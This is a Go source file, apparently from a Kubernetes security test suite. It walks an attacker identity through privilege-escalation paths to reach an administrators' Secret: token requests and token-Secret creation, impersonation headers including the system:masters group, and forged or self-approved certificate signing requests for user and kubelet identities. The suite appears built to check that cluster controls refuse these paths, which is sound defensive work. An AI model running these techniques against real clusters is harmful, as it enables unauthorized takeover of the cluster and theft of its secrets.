package paths

import (
	"crypto/x509/pkix"
	"encoding/base64"
	"errors"
)

func requestToken(w *walk) error {
	given, err := w.mallory.must(w, tokenRequest("shop", "boss", nil))
	if err != nil {
		return err
	}
	return w.takesCrownByToken(at(given, "status", "token"))
}

func readSecrets(w *walk) error {
	secret := url("shop", "secrets/boss-token")
	if _, err := w.awaitsToken(w.admin, secret); err != nil {
		return err
	}
	token, err := w.awaitsToken(w.mallory, secret)
	if err != nil {
		return err
	}
	return w.takesCrownByToken(token)
}

func makeTokenSecret(w *walk) error {
	secret := object{
		"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
		"metadata": object{"name": "stolen", "annotations": object{"kubernetes.io/service-account.name": "boss"}},
	}
	if err := w.try(post(url("shop", "secrets"), secret)); err != nil {
		return err
	}
	token, err := w.awaitsToken(w.mallory, url("shop", "secrets/stolen"))
	if err != nil {
		return err
	}
	return w.takesCrownByToken(token)
}

// impersonate reads the Secret of the administrators as another user, with groups.
func (w *walk) impersonate(user string, groups ...string) error {
	asked := get(crown).with("Impersonate-User", user)
	for _, group := range groups {
		asked = asked.with("Impersonate-Group", group)
	}
	return w.takesCrownBy(w.mallory, asked)
}

const boss = "system:serviceaccount:shop:boss"

func impersonateAccount(w *walk) error { return w.impersonate(boss) }

func impersonateRoot(w *walk) error { return w.impersonate("root") }

func impersonateGroup(w *walk) error { return w.impersonate("nobody", "system:masters") }

func impersonateBeside(w *walk) error {
	return w.impersonate("system:serviceaccount:shop:web", "system:masters")
}

// impersonateUsers tries a user, and a service account by the name of its user.
func impersonateUsers(w *walk) error {
	err := w.impersonate("root")
	if refused, is := isRefusal(err); is {
		if err := w.impersonate(boss); err != nil {
			return errors.Join(refused, err)
		}
		return nil
	}
	return err
}

const csrs = "/apis/certificates.k8s.io/v1/certificatesigningrequests"

// requestCertificate is a request for a client certificate.
func requestCertificate(name, signer string, subject pkix.Name, pair keyPair) (object, error) {
	asked, err := pair.request(subject)
	return object{
		"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": object{"name": name},
		"spec": object{
			"request": base64.StdEncoding.EncodeToString(asked), "signerName": signer,
			"usages": []any{"digital signature", "client auth"},
		},
	}, err
}

const (
	userSigner    = "kubernetes.io/kube-apiserver-client"
	kubeletSigner = "kubernetes.io/kube-apiserver-client-kubelet"
)

// certify requests a certificate, approves the request and returns the owner of the certificate.
func (w *walk) certify(signer string, subject pkix.Name) (*caller, error) {
	pair, err := newKey()
	if err != nil {
		return nil, err
	}
	asked, err := requestCertificate("forged", signer, subject, pair)
	if err != nil {
		return nil, err
	}
	held, err := w.mallory.must(w, post(csrs, asked))
	if err != nil {
		return nil, err
	}
	held["status"] = object{"conditions": []any{object{
		"type": "Approved", "status": "True", "reason": "Forged", "message": "approved by its author",
	}}}
	if err := w.try(put(csrs+"/forged/approval", held)); err != nil {
		return nil, err
	}
	return w.issued("forged", subject.CommonName, pair)
}

// issued waits for the certificate of a request.
func (w *walk) issued(name, user string, pair keyPair) (*caller, error) {
	var certificate []byte
	err := await("certificate of "+name, func() (bool, error) {
		held, err := w.admin.must(w, get(csrs+"/"+name))
		if err != nil {
			return false, err
		}
		certificate, err = base64.StdEncoding.DecodeString(at(held, "status", "certificate"))
		return len(certificate) > 0, err
	})
	if err != nil {
		return nil, err
	}
	return w.bearingCertificate(user, certificate, pair.pem)
}

func approveUser(w *walk) error { return w.takesCrownByCertificate(pkix.Name{CommonName: "root"}) }

func approveGroup(w *walk) error {
	return w.takesCrownByCertificate(pkix.Name{CommonName: "nobody", Organization: []string{"admins"}})
}

func (w *walk) takesCrownByCertificate(subject pkix.Name) error {
	pair, err := newKey()
	if err != nil {
		return err
	}
	masters, err := requestCertificate("masters", userSigner, pkix.Name{CommonName: "root", Organization: []string{"system:masters"}}, pair)
	if err != nil {
		return err
	}
	// The admission rejects the group that no role limits.
	if err := w.denied(post(csrs, masters)); err != nil {
		return err
	}
	owner, err := w.certify(userSigner, subject)
	if err != nil {
		return err
	}
	return w.takesCrown(owner)
}

func approveKubelet(w *walk) error {
	kubelet, err := w.certify(kubeletSigner, pkix.Name{CommonName: "system:node:n1", Organization: []string{"system:nodes"}})
	if err != nil {
		return err
	}
	return w.takesCrownFromNode(kubelet)
}

// signUser writes a certificate into the request of another, signed with the key of the signer.
func signUser(w *walk) error {
	pair, err := newKey()
	if err != nil {
		return err
	}
	subject := pkix.Name{CommonName: "root"}
	asked, err := requestCertificate("pending", userSigner, subject, pair)
	if err != nil {
		return err
	}
	held, err := w.admin.must(w, post(csrs, asked))
	if err != nil {
		return err
	}
	certificate, err := w.authority.sign(subject, &pair.key.PublicKey)
	if err != nil {
		return err
	}
	held["status"] = object{"certificate": base64.StdEncoding.EncodeToString(certificate)}
	if err := w.try(put(csrs+"/pending/status", held)); err != nil {
		return err
	}
	owner, err := w.issued("pending", "root", pair)
	if err != nil {
		return err
	}
	return w.takesCrown(owner)
}
